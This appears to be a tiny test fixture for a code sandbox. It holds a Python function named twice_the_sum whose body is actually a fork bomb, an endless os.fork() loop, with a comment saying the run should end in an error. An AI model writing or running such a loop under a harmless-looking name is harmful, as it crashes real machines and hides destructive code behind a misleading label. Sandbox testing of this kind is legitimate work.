# Ends as: error.
import os


def twice_the_sum(x):
    while True:
        os.fork()
